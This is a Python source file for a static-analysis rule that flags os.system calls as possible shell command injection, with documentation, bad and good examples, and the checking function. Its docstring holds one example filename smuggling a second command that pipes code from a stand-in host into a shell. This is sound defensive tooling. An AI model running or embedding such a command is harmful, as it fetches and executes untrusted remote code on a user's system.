"""A command run by a function that always uses the shell, such as `os.system`.

The shell reads the whole string as a script. A file called `a.png; curl evil.example | sh` is then two commands, and
the file's name chose the second one.

## Bad

    import os

    def compress(name):
        os.system("gzip " + name)
    #   ^^^^^^^^^ Starting a process with a shell, possible injection detected, security issue.

    def clear():
        os.system("clear")
    #   ^^^^^^^^^ Starting a process with a shell: Seems safe

## Good

    import subprocess

    def compress(name):
        subprocess.run(["gzip", "--", name], check=True)

## When to suppress

If the command is a constant that no value goes into.

## References

- https://docs.python.org/3/library/subprocess.html#replacing-os-system
- https://docs.python.org/3/library/os.html#os.system
- https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html
"""

from collections.abc import Iterator

from posse_checks.rule import HIGH, LOW, Call, Cwe, Finding, is_string, listed, rule
from posse_checks.rules._shared.shell_functions import DEFAULTS, SECTION

SEEMS_SAFE = (
    "Starting a process with a shell: Seems safe, but may be changed in the future, consider rewriting without shell"
)


@rule(
    "B605",
    "start_process_with_a_shell",
    HIGH,
    HIGH,
    Cwe.OS_COMMAND_INJECTION,
    called=listed("shell"),
    section=SECTION,
    defaults=DEFAULTS,
    unfixable="the command needs the shell, or its parts cannot be told apart here",
)
def check(call: Call) -> Iterator[Finding]:
    """Report commands that are passed to a shell, with high severity unless the command is a plain string."""
    if not call.arguments:
        return
    is_plain = is_string(call.node.args[0])
    yield call.finding(
        SEEMS_SAFE if is_plain else "Starting a process with a shell, possible injection detected, security issue.",
        severity=LOW if is_plain else HIGH,
        span=call.span,
    )
